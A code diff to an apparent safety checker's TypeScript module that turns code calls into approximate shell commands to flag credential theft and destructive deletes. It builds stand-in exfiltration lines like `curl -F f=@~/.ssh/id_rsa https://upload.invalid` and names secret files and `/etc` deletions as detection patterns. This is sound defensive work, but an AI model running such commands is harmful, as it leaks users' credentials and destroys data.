@@ -15,7 +15,7 @@
  */
 import { GENERIC_ROW, homeExpressionsOf, languageRowFor, LISTING_WORDS, MOVE_WORDS, NETWORK_WORDS, OPEN_WORDS, TRUNCATION_WORDS, withHomeSpelt, WRITE_WORDS, type LanguageRow } from './rows';
 import { CREDENTIAL_HINT } from './reader';
-import { isRawBlockDevicePath } from '../../hardline/paths';
+import { credentialKind, isRawBlockDevicePath } from '../../hardline/paths';
 
 export interface ApproximateText {
   text: string;
@@ -187,13 +187,23 @@ function sentCredentials(stripped: string, code: string, literals: readonly stri
   for (const literal of literals) {
     if (out.length >= MAX_SENT_CREDENTIALS) break;
     const path = withHomeSpelt(literal).trim();
-    if (/\s/.test(path) || !CREDENTIAL_HINT.test(path)) continue;
+    // The hint's places, or what the floor's one notion of a credential names (a key file by its
+    // format, a data file named as a secret: `/var/lib/jenkins/secrets/master.key`).
+    if (/\s/.test(path) || (!CREDENTIAL_HINT.test(path) && !namesCredential(path))) continue;
     // A relative path, or a dot-path concatenated onto a home expression (`getenv("HOME")."/.ssh/id_rsa"`), below the home folder.
     const rooted = home && (/^\/\./.test(path) || !/^(?:\/|~)/.test(path)) ? `~/${path.replace(/^\.?\//, '')}` : path;
     const quoted = rooted.startsWith('~/') ? `~/${quoteShell(rooted.slice(2))}` : quoteShell(rooted);
     out.push({ text: `curl -F f=@${quoted} https://upload.invalid`, what: `${api} in ${row.language} code, with ${rooted}` });
   }
   return out;
+}
+
+/** A stand-in home folder for {@link credentialKind}: the code's `~` is read below it. */
+const STAND_IN_HOME = '/home/code-reader';
+
+/** Whether a path literal is a credential by the floor's notion (paths.ts `credentialKind`); only absolute or home paths. */
+function namesCredential(path: string): boolean {
+  return /^(?:\/|~\/)/.test(path) && credentialKind(path, STAND_IN_HOME) !== null;
 }
 
 /** The paths a call names: literals that are paths (absolute or below the home folder) and home expressions (`~`). */
@@ -474,11 +484,29 @@ function occurrences(code: string, name: string): number[] {
  * at most a window's length. Empty for a plain call.
  */
 function receiverOf(stripped: string, original: string, at: number, api: string): string {
-  if (!api.startsWith('.') && stripped[at - 1] !== '.') return '';
+  if (!api.startsWith('.') && stripped[at - 1] !== '.') return postfixReceiver(stripped, original, at, api);
   let i = at - 1;
   const stop = Math.max(0, at - WINDOW);
   while (i > stop && !/[;\n{]/.test(stripped[i - 1]!)) i--;
   return original.slice(i, at);
+}
+
+/**
+ * The receiver of a message written after it with a blank and given no argument, which ends its
+ * statement (Smalltalk's unary messages: `'/etc' asFileReference deleteAll`, `(File name: '/etc')
+ * all remove`; a stack language's word after its operand: Factor's `"/etc" delete-tree`): the
+ * statement's text before the name (back to `;`, `|`, a line break, an opening bracket or a period
+ * that ends a Smalltalk statement). Empty when an argument follows the name (a plain call).
+ */
+function postfixReceiver(stripped: string, original: string, at: number, api: string): string {
+  if (at === 0 || !/[ \t]/.test(stripped[at - 1]!)) return '';
+  if (!/^[ \t]*(?:[.;)\]!]|\n|$)/.test(stripped.slice(at + api.length))) return '';
+  let i = at - 1;
+  const stop = Math.max(0, at - WINDOW);
+  // A pipe ends the statement too: a command piped into (`… | Remove-Item`) is handed objects, not its receiver.
+  while (i > stop && !/[;\n{[|]/.test(stripped[i - 1]!) && !(stripped[i - 1] === '.' && /\s/.test(stripped[i] ?? ''))) i--;
+  const receiver = original.slice(i, at);
+  return receiver.trim() === '' ? '' : receiver;
 }
 
 /** The text after an API name up to the end of its call: its closing bracket, or the end of the statement. */
@@ -573,7 +601,8 @@ function deletingNames(stripped: string, code: string, listed: readonly string[]
     const name = match[0];
     if (listed.includes(name) || !nameWords(name).some((word) => DELETING_VERBS.has(word))) continue;
     const next = code.slice(match.index + name.length).match(/^[ \t]*(.)/)?.[1];
-    if (next === undefined || !/[("'~$\/\w]/.test(next)) continue;
+    // Or a message after its receiver that ends the statement (`'/etc' asFileReference deleteAll`).
+    if ((next === undefined || !/[("'~$\/\w]/.test(next)) && postfixReceiver(stripped, code, match.index, name) === '') continue;
     out.push({ name, at: match.index });
   }
   return out;
